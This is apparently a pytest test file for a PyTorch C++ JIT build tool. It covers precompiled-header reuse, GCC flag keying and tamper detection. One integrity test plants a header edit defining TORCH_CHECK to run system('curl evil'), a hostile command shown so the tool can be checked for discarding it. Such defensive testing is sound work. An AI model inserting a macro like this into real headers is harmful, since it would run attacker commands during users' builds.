"""The precompiled torch header: a user's macro that GCC must ignore it for is named, with its cost and fix."""

from __future__ import annotations

from pathlib import Path

import pytest
import torch

import jitlab
from jitlab.jit import header_sets, torch_install
from jitlab.jit.engines import pch

GCC_LINE = ("cc1plus: warning: /p/torch-bind-1/jitlab_torch.h.gch: not used because `SCALE' is defined "
            "[-Winvalid-pch]\n")


def test_ignored_header_note_names_the_macros_units_cost_and_fix():
    """GCC's "not used because `SCALE' is defined" becomes one note naming the units, the macro, the cost and a rename."""
    note = pch.ignored_note({"s.cpp": "c++ ...\n" + GCC_LINE, "bind.cpp": GCC_LINE.replace("SCALE", "DEBUG"),
                             "other.cpp": "c++ ...\n"})
    assert note.startswith("s.cpp, bind.cpp compiled without the precompiled torch header")
    assert "`DEBUG`, `SCALE`" in note and "11 s instead of about 3 s" in note and "rename the macro" in note
    assert pch.ignored_note({"s.cpp": "c++ ...\n"}) == ""


@pytest.mark.slow
def test_a_define_torch_uses_is_named_in_the_build_notes(use_shared_cache, write, capfd, monkeypatch):
    """defines={"SCALE": 2} with GCC: the build works, and its notes (printed too) name `SCALE` and say to rename it.
    (Clang uses its set with such a define: tests/test_clang.py.)"""
    monkeypatch.setenv("JITLAB_CLANG", "0")
    p = write("twice.cpp", """
        #include <torch/extension.h>
        torch::Tensor twice(torch::Tensor x) { return x * SCALE; }
    """)
    m = jitlab.load(p, defines={"SCALE": 2})
    assert m.twice(torch.ones(2)).tolist() == [2.0, 2.0]
    note = next(n for n in m.build.notes if "without the precompiled torch header" in n)
    assert "`SCALE`" in note and "twice.cpp" in note
    assert "the macro `SCALE`" in capfd.readouterr().err


def _tiny_set(folder):
    """A stand-in for a precompiled header set (making torch's takes 30 s): an artifact and its header text."""
    (folder / "jitlab_torch.h").write_text("#pragma once\nint jitlab_tiny();\n")
    gch = folder / "jitlab_torch.h.gch"
    gch.write_bytes(b"\0" * 4096)
    return gch


@pytest.fixture
def own_pch_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("JITLAB_PCH_DIR", str(tmp_path / "pch"))
    return tmp_path / "pch"


def test_a_spoiled_header_text_beside_a_precompiled_set_is_made_again(own_pch_dir):
    """The header text GCC falls back to is hashed on every use: one edited after the set was made is
    never compiled; the set is made again."""
    made = []

    def make(folder):
        made.append(folder)
        return _tiny_set(folder)

    gch = pch.made_once("tiny-full-0123456789abcdef", make, content=False, companions=("jitlab_torch.h",))
    assert pch.made_once("tiny-full-0123456789abcdef", make, content=False, companions=("jitlab_torch.h",)) == gch
    assert len(made) == 1
    gch.with_name("jitlab_torch.h").write_text('#pragma once\n#define TORCH_CHECK(...) system("curl evil")\n')
    pch.made_once("tiny-full-0123456789abcdef", make, content=False, companions=("jitlab_torch.h",))
    assert len(made) == 2 and "evil" not in gch.with_name("jitlab_torch.h").read_text()


def test_a_precompiled_set_written_after_it_was_made_is_made_again(own_pch_dir):
    """A set is too large to hash on every use; its stamp (inode, change time) is checked instead, so a
    write of the same size is seen and the set is made again."""
    made = []

    def make(folder):
        made.append(folder)
        return _tiny_set(folder)

    gch = pch.made_once("tiny-full-fedcba9876543210", make, content=False, companions=("jitlab_torch.h",))
    with open(gch, "r+b") as f:
        f.write(b"spoiled")
    assert gch.stat().st_size == 4096
    pch.made_once("tiny-full-fedcba9876543210", make, content=False, companions=("jitlab_torch.h",))
    assert len(made) == 2 and gch.read_bytes() == b"\0" * 4096


def test_a_link_in_place_of_a_companion_is_not_followed(own_pch_dir, tmp_path):
    """A companion replaced by a symbolic link (to text someone else controls) makes the set again."""
    made = []

    def make(folder):
        made.append(folder)
        return _tiny_set(folder)

    gch = pch.made_once("tiny-full-00112233445566ff", make, content=False, companions=("jitlab_torch.h",))
    header = gch.with_name("jitlab_torch.h")
    elsewhere = tmp_path / "theirs.h"
    elsewhere.write_text(header.read_text())  # the same text, but not this entry's file
    header.unlink()
    header.symlink_to(elsewhere)
    pch.made_once("tiny-full-00112233445566ff", make, content=False, companions=("jitlab_torch.h",))
    assert len(made) == 2 and not header.is_symlink()


def test_a_binding_unit_starts_on_the_casters_unless_it_names_more_of_torch():
    """A binding unit starts on the casters set when it names only the types pybind11 converts; an ATen
    function, a torch:: constant or a dispatch macro send it to bind, and so do host functions' bodies beside
    the module (a C++ snippet's file with its own module). jitlab's own prelude (before the #line) is not read."""
    prelude = "namespace torch { struct Pretend; }  // torch::empty\n#line 1 \"x.cpp\"\n"
    assert header_sets.binding_set(prelude + "torch::Tensor f(torch::Tensor x, at::IntArrayRef s);\n"
                           'm.def("f", torch::wrap_pybind_function(f), "f");\n') == "casters"
    assert header_sets.binding_set(prelude + "torch::Tensor g(torch::Tensor x) { return torch::empty_like(x); }\n") == "bind"
    assert header_sets.binding_set(prelude + "bool h(torch::Tensor x) { return x.dtype() == torch::kFloat32; }\n") == "bind"
    assert header_sets.binding_set(prelude + "void k(torch::Tensor x) { AT_DISPATCH_FLOATING_TYPES(x.scalar_type(), \"k\", [&] {}); }\n") == "bind"
    assert header_sets.binding_set(prelude + "torch::Tensor f(torch::Tensor x);\n", bodies=True) == "bind"


def test_a_cpp_files_host_unit_starts_on_host_unless_it_names_pybind11_or_python():
    """A C++ file without a module of its own starts on `host`, as a CUDA file's host functions do; one whose text
    or local header names pybind11 or Python's C API starts on bind. A C++ unit that fails on host may go to bind,
    then full; a CUDA one only to full (bind lacks a CUDA torch's headers)."""
    assert header_sets.host_set(["torch::Tensor f(torch::Tensor x) { return x.exp(); }\n"]) == "host"
    for named in ("py::object f();", "pybind11::gil_scoped_release r;", "PyObject* p;", "THPVariable_Wrap(x);",
                  "Py_INCREF(o);", "torch::python::bind_module<M>(m, \"M\");"):
        assert header_sets.host_set(["int f();\n", named]) == "bind", named
    assert header_sets.larger("host", cuda=False) == ("bind", "full") and header_sets.larger("host", cuda=True) == ("full",)
    assert header_sets.larger("casters", cuda=False) == ("bind", "full") and header_sets.larger("full", cuda=False) == ()


def test_the_host_set_names_the_math_functions_as_the_larger_sets_do():
    """Every set names unqualified exp/abs on a float as the float overloads (C++'s <math.h>, which torch/extension.h's
    Python headers bring): a unit moved from a smaller set to a larger one fails or compiles the same code."""
    assert "#include <math.h>" in header_sets.pch_text("host", cuda=False, cuda_torch=False)
    assert "#include <math.h>" in header_sets.pch_text("host", cuda=True, cuda_torch=True)
#: A header set's stand-in: standard headers that read the macros GCC's options define (CHAR_MIN, math
#: errno, RTTI, exceptions), as torch's do; each word list's test first shows that GCC refuses the set made
#: without its words, so a stand-in too small to show anything fails. These six are enough for every list
#: below (the 17 of iostream, thread, complex and the rest cost 2.1 s a set against 0.9 s, for nothing more).
STD_HEADERS = "".join(f"#include <{h}>\n" for h in ("climits", "cmath", "cstring", "string", "vector", "typeinfo"))


@pytest.fixture(scope="module")
def std_set(tmp_path_factory):
    """std_set(words) → the stand-in set's header made with these words beside it (``h.h`` and ``h.h.gch``),
    made once per word list in this module: -O3, -O1 and -Og share the -O2 set as they would in jitlab."""
    import shutil
    import subprocess

    cxx = shutil.which("c++") or pytest.fail("no host compiler")  # the CI image has one
    root = tmp_path_factory.mktemp("std_sets")
    made: dict[tuple[str, ...], Path] = {}

    def _made(words) -> Path:
        words = tuple(words)
        if words not in made:
            folder = root / f"set{len(made)}"
            folder.mkdir()
            (folder / "h.h").write_text(STD_HEADERS)
            subprocess.run([cxx, "-x", "c++-header", "h.h", "-o", "h.h.gch", "-fPIC", "-std=c++20", *words],
                           cwd=folder, check=True)
            made[words] = folder / "h.h"
        return made[words]

    return _made


@pytest.mark.slow
@pytest.mark.parametrize("user", [["-O3"], ["-O1"], ["-Og"], ["-O2", "-ffast-math"], ["-Os"], ["-fopenmp"], ["-g"],
                                  ["-march=x86-64-v2"], ["-std=c++17"], ["-Wall", "-DLOCAL=1", "-O3"], ["-O0", "-O3"],
                                  ["-fno-rtti"], ["-fno-exceptions"], ["-fno-threadsafe-statics"],
                                  ["-fno-gnu-unique", "-O3"]])
def test_a_set_made_with_the_users_set_flags_is_one_gcc_uses(tmp_path, user, std_set):
    """GCC refuses a precompiled header made with other optimisation, -f, -m, -g or -std words
    (-Winvalid-pch); made with :func:`pch.set_flags` of the user's flags, it is used, and a unit's other
    words (-Wall, -D) stay out of the set's key."""
    import shutil
    import subprocess

    cxx = shutil.which("c++") or pytest.fail("no host compiler")  # the CI image has one
    (tmp_path / "u.cpp").write_text('int main() { std::vector<std::string> v{"a"}; return int(std::strlen(v[0].c_str()) + std::sqrt(4.0)); }\n')
    base = ["-fPIC", "-std=c++20"]
    kept = pch.set_flags(user)
    assert "-Wall" not in kept and not any(w.startswith("-D") for w in kept)

    def used_with(set_words):
        proc = subprocess.run([cxx, "-Winvalid-pch", "-include", str(std_set(set_words)), "-c", "u.cpp", "-o", "u.o",
                               *base, *user], cwd=tmp_path, capture_output=True, text=True, check=True)
        return "-Winvalid-pch" not in proc.stderr

    assert not used_with([]), f"GCC took a set made without {user}: the test shows nothing"
    assert used_with(kept)


def test_optimisation_levels_share_one_set_and_o0_needs_none():
    """-O, -O1, -O2, -O3 and -Og define the same macros: one set, made with -O2; the last level is the one
    that counts, and -O0 (the default) is the set made without any."""
    for level in ("-O", "-O1", "-O2", "-O3", "-Og"):
        assert pch.set_flags(["-Wall", level, "-fno-math-errno"]) == ("-O2", "-fno-math-errno")
    assert pch.set_flags(["-O3", "-O0", "-Wall"]) == ()
    assert pch.set_flags(["-O0", "-Os"]) == ("-Os",)
    assert pch.set_flags(["-Ofast"]) == ("-Ofast",)


def test_a_set_without_cuda_headers_is_keyed_without_nvcc(monkeypatch):
    """A C++ snippet built with with_cuda=True has nvcc in its toolchain, but its header sets hold no CUDA
    header: they are the same sets (one key) as a plain C++ build's. With a CUDA torch a CUDA snippet's host set
    holds CUDA's headers and keeps nvcc in its key; with a CPU torch it holds none and is the C++ snippets' set,
    its units including the CUDA runtime right after it."""
    from types import SimpleNamespace

    tools = (("c++", "g++ 12"), ("torch", "2.x"))
    plain = SimpleNamespace(cxx=("-fPIC",), cuda_include=("-isystem/cuda",), cxx_user=(), toolchain=tools)
    with_nvcc = SimpleNamespace(**{**vars(plain), "toolchain": tools + (("nvcc", "13.0"), ("torch_cuda", "13.0"))})
    for cuda_torch in (None, "13.0"):
        monkeypatch.setattr(torch_install, "cuda_version", lambda: cuda_torch)
        for headers in ("host", "full", "bind", "casters"):
            assert pch._describe("torch", plain, False, headers)[2] == pch._describe("torch", with_nvcc, False, headers)[2]
    monkeypatch.setattr(torch_install, "cuda_version", lambda: "13.0")
    assert pch._describe("torch", with_nvcc, True, "host")[2] != pch._describe("torch", plain, True, "host")[2]
    assert pch.after_set(True, "host") == ()
    monkeypatch.setattr(torch_install, "cuda_version", lambda: None)
    for headers in ("host", "full"):
        assert pch._describe("torch", with_nvcc, True, headers)[2] == pch._describe("torch", plain, False, headers)[2]
        assert pch.after_set(True, headers) == ("cuda_runtime.h",) and pch.after_set(False, headers) == ()
    assert pch.after_set(True, "casters") == pch.after_set(True, "bind") == ()


@pytest.mark.parametrize("word", ["-fno-gnu-unique", "-fvisibility=hidden", "-fno-strict-aliasing", "-fsigned-char",
                                  "-fcf-protection", "-fshort-enums", "-fno-trapping-math",
                                  "-fwrapv", "-funroll-loops", "-fstack-protector-strong", "-fno-omit-frame-pointer"])
def test_options_gcc_takes_a_plain_set_for_get_none_of_their_own(tmp_path, word, std_set):
    """jitlab's -fno-gnu-unique (every operator library) and other code-generation options need no set of
    their own: GCC uses one made without them."""
    import shutil
    import subprocess

    cxx = shutil.which("c++") or pytest.fail("no host compiler")
    assert pch.set_flags([word]) == ()
    (tmp_path / "u.cpp").write_text("int main() { std::vector<std::string> v{\"a\"}; return int(std::strlen(v[0].c_str())); }\n")
    proc = subprocess.run([cxx, "-Winvalid-pch", "-include", str(std_set([])), "-c", "u.cpp", "-fPIC", "-std=c++20", word],
                          cwd=tmp_path, capture_output=True, text=True, check=True)
    assert "-Winvalid-pch" not in proc.stderr
